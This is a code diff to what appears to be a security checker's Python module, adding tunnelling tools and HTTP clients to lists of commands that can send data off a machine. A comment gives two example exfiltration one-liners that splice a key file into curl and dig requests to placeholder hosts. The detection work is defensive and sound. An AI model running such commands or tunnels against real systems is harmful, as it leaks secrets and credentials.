@@ -20,7 +20,8 @@ from atlas.trust.normalise import SUBSTITUTION, Part
 Found = tuple[str, str]
 
 SOCKET_TOOLS = {"nc", "ncat", "netcat", "socat", "telnet", "ssh-copy-id", "sshpass", "pwncat",
-                "pwncat-cs", "sshuttle", "cryptcat", "autossh", "dbclient", "plink",
+                "pwncat-cs", "sshuttle", "cryptcat", "autossh", "dbclient", "plink", "ngrok",
+                "cloudflared", "localtunnel", "lt", "bore", "frpc", "chisel", "pagekite",
                 "mosh", "ftp", "lftp", "tftp", "sftp", "scp", "smbclient", "websocat", "wscat"}  # fmt: skip
 MAIL_TOOLS = {"mail", "mailx", "sendmail", "mutt", "msmtp", "swaks", "s-nail", "neomutt"}
 PUBLISH = {
@@ -39,7 +40,7 @@ HTTPIE = {"http", "https", "xh", "xhs"}
 # Tools that put their arguments on the wire (URL, headers, a DNS name): a command's output
 # spliced into one (`curl https://x/$(cat key)`, `dig $(cat key).x.example`) is sent out.
 CARRIERS = {"curl", "wget", "dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute",
-            "whois", *HTTPIE}  # fmt: skip
+            "whois", "aria2c", "lynx", "w3m", "links", "elinks", "curlie", "xh", *HTTPIE}  # fmt: skip
 URL_CARRIERS = {"git", "pip", "pip3", "npm", "go", "docker", "podman", "uv", "cargo", "gem"}
 # Backup tools given a remote repository (`sftp:`, `ssh://`, `s3:`, `rclone:`, `b2:`, `rest:`).
 BACKUP_TOOLS = {"restic", "borg", "duplicity", "rdiff-backup", "kopia", "duplicacy", "bup"}
